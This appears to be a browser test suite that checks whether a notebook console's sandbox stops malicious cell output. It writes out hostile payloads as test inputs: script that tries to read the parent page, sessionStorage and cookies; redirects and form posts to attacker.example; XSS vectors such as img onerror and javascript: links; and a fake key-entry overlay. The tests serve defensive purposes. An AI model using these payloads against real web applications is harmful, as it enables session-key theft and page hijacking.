// Output that attacks: what a cell shows may be written by anybody. One test for each thing it must not get.
import { blank, cell, equal, frameOf, ok, run, runCell, serve, test, until } from "./support.mjs";

const house = await serve({ flags: ["--preload", ""] });
const SECRET = "rt_the-key-of-this-tab";

// Shows the HTML in a cell, and resolves with the frame it is in once its script has said that it is through.
async function attack(page, script, html = "") {
  await blank(page, house);
  await page.evaluate((key) => sessionStorage.setItem("planted", key), SECRET);
  await runCell(page, 1, `from IPython.display import HTML\nHTML(${JSON.stringify(`${html}<script>
    window.found = {};
    (async () => { ${script} })().catch((e) => { found.error = String(e); }).finally(() => { found.through = true; });
  </script>`)})`);
  const frame = await frameOf(page, 1);
  await frame.waitForFunction(() => window.found?.through);
  return frame.evaluate(() => window.found);
}
const noise = /Content Security Policy|sandboxed|Blocked|denied|Failed to load|ERR_|Unsafe attempt|CORS|Permissions policy/i;

test("it has no origin, and reads neither the page, its storage nor the key", async ({ page }) => {
  const found = await attack(page, `
    found.origin = self.origin;
    for (const [name, look] of Object.entries({
      page: () => parent.document.body.innerHTML, key: () => parent.sessionStorage.getItem("planted"),
      own: () => sessionStorage.getItem("planted"), local: () => localStorage.length, cookie: () => document.cookie,
      href: () => parent.location.href, top: () => top.document.title }))
      try { found[name] = String(look()); } catch (e) { found[name] = e.name; }`);
  equal(found.origin, "null");
  for (const name of ["page", "key", "own", "local", "cookie", "href", "top"]) equal(found[name], "SecurityError", name);
}, { noise });

test("it cannot call the API", async ({ page }) => {
  const before = (await house.call("v1/executions?limit=1000")).data.length;
  const found = await attack(page, `
    const at = ${JSON.stringify(house.url)};
    found.get = await fetch(at + "v1/sessions").then(() => "answered", (e) => e.name);
    found.post = await fetch(at + "v1/execute", { method: "POST", body: '{"code":"1"}', headers: { "content-type": "application/json" } }).then(() => "answered", (e) => e.name);
    found.beacon = await new Promise((go) => { addEventListener("securitypolicyviolation", (e) => go(e.effectiveDirective)); navigator.sendBeacon(at + "v1/execute", "{}"); });
    found.xhr = await new Promise((go) => { const x = new XMLHttpRequest(); x.onerror = () => go("error"); x.onload = () => go("answered"); x.open("GET", at + "v1/sessions"); x.send(); });
    found.image = await new Promise((go) => { const i = new Image(); i.onload = () => go("loaded"); i.onerror = () => go("refused"); i.src = at + "console/icon.svg"; });
    found.socket = await new Promise((go) => { try { const s = new WebSocket(at.replace("http", "ws")); s.onerror = () => go("error"); s.onopen = () => go("open"); } catch (e) { go(e.name); } });`);
  equal([found.get, found.post, found.beacon, found.xhr, found.image], ["TypeError", "TypeError", "connect-src", "error", "refused"]);
  ok(found.socket !== "open", "no socket");
  const after = (await house.call("v1/executions?limit=1000")).data.length;
  equal(after, before + 1, "executions");
}, { noise });

test("it cannot navigate the page, or send itself to another host", async ({ page, context }) => {
  const asked = [];
  context.on("request", (r) => asked.push(r.url()));
  const found = await attack(page, `
    try { top.location = "http://attacker.example/"; found.top = "went"; } catch (e) { found.top = e.name; }
    try { parent.location.hash = "#/keys"; found.hash = "went"; } catch (e) { found.hash = e.name; }
    const form = document.createElement("form"); form.action = "http://attacker.example/?form"; form.method = "post"; form.target = "_top"; document.body.append(form);
    form.submit();`);
  equal(found.top, "SecurityError");
  equal(new URL(page.url()).pathname, "/");
  ok(!page.url().includes("#/keys"), page.url());
  const frame = await frameOf(page, 1);
  await frame.evaluate(() => { location.href = "http://attacker.example/?stolen"; }).catch(() => {});
  await until("the frame is refused another address", () => !page.frames().some((f) => f.url().includes("stolen")));
  ok(!asked.some((u) => u.includes("attacker")), `a request went out: ${asked}`);
  await runCell(page, 1, "40 + 2");
  equal((await cell(page, 1).locator("pre.result").innerText()).trim(), "42");
}, { noise });

test("it cannot open windows, dialogs or downloads", async ({ page, context }) => {
  let opened = 0, dialogs = 0, downloads = 0;
  page.on("dialog", (d) => { dialogs++; d.dismiss(); });
  page.on("download", () => downloads++);
  context.on("page", () => opened++);
  const found = await attack(page, `
    found.window = window.open("about:blank") === null;
    alert("your key, please"); found.prompt = prompt("your key, please"); found.confirm = confirm("sure?");
    const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x.exe"; document.body.append(a); a.click();
    const b = document.createElement("a"); b.href = "http://attacker.example/"; b.target = "_blank"; document.body.append(b); b.click();
    found.print = (() => { try { print(); return "called"; } catch (e) { return e.name; } })();`);
  equal([found.window, found.prompt, found.confirm], [true, null, false]);
  equal([opened, dialogs, downloads], [0, 0, 0]);
}, { noise });

test("it cannot cover the page with an overlay", async ({ page }) => {
  await attack(page, `
    document.body.insertAdjacentHTML("beforeend", '<div style="position:fixed;inset:0;z-index:2147483647;background:red;width:5000px;height:5000px">Enter your key <input></div>');
    for (const height of [1e9, "1e9px", -5, NaN, { valueOf: () => 9e9 }]) try { parent.postMessage({ height }, "*"); } catch {}
    parent.postMessage({ ready: true, html: "<b>x</b>" }, "*");
    await new Promise((go) => requestAnimationFrame(() => requestAnimationFrame(go)));
    try { await document.documentElement.requestFullscreen(); found.full = true; } catch { found.full = false; }`, "<p>x");
  const box = await cell(page, 1).locator("iframe.frame").boundingBox();
  ok(box.height <= 640, `the frame is ${box.height} high`);
  const bar = await page.locator("header.bar").boundingBox();
  const there = await page.evaluate(([x, y]) => !!document.elementFromPoint(x, y).closest("header.bar"), [bar.x + 20, bar.y + bar.height / 2]);
  ok(there, "the bar is still on top");
  ok(await page.evaluate(() => !document.fullscreenElement), "not the whole screen");
}, { noise });

test("SVG and Markdown are in such a frame as well", async ({ page }) => {
  await blank(page, house);
  await runCell(page, 1, [
    "from IPython.display import *",
    "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.origin_seen = self.origin\"><circle r=\"5\"/></svg>'))",
    "display(Markdown('<img src=x onerror=\"window.origin_seen = self.origin\"> *x*'))",
    "display(Latex(r'$\\href{javascript:alert(1)}{x} \\includegraphics{http://attacker.example/x.png}$'))",
  ].join("\n"));
  for (const at of [0, 1]) equal(await (await frameOf(page, 1, at)).evaluate(() => self.origin), "null");
  await (await frameOf(page, 1, 1)).waitForFunction(() => window.origin_seen === "null");
  equal(await cell(page, 1).locator(".latex a, .latex img").count(), 0);
  equal(await page.evaluate(() => window.origin_seen), undefined);
}, { noise });

test("text, names and errors are text", async ({ page }) => {
  await blank(page, house);
  await runCell(page, 1, [
    "print('<img src=x onerror=\"window.hit=1\">\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07')",
    "open('<img src=x onerror=window.hit=1>.txt', 'w').write('x')",
    "raise ValueError('<script>window.hit=1</script>')",
  ].join("\n"));
  await cell(page, 1).locator(".made").waitFor();
  ok((await cell(page, 1).locator(".error-head").innerText()).includes("<script>"), "it is shown as it is");
  equal(await page.evaluate(() => window.hit), undefined);
  equal(await cell(page, 1).locator(".out a, .out img, .out script").count(), 0);
});

test("the page has a strict policy and is nobody's frame", async ({ page }) => {
  const answer = await fetch(house.url, { headers: { accept: "text/html" } });
  const policy = answer.headers.get("content-security-policy");
  for (const part of ["default-src 'none'", "script-src 'self'", "style-src 'self'", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'none'", "connect-src 'self'"])
    ok(policy.split("; ").includes(part), `${part} in ${policy}`);
  equal(answer.headers.get("x-content-type-options"), "nosniff");
  const html = await answer.text();
  ok(!/<script(?![^>]*src=)|\son\w+=|style=/.test(html), "nothing inline");
  const frame = await fetch(house.url + "console/frame.html");
  ok(frame.headers.get("content-security-policy").startsWith("sandbox allow-scripts; default-src 'none'"), "the frame's own");
  const asked = [];
  page.on("request", (r) => asked.push(new URL(r.url()).origin));
  await page.goto(house.url);
  await page.locator("nav.side").waitFor();
  equal([...new Set(asked)], [new URL(house.url).origin]);
});

await run(house);
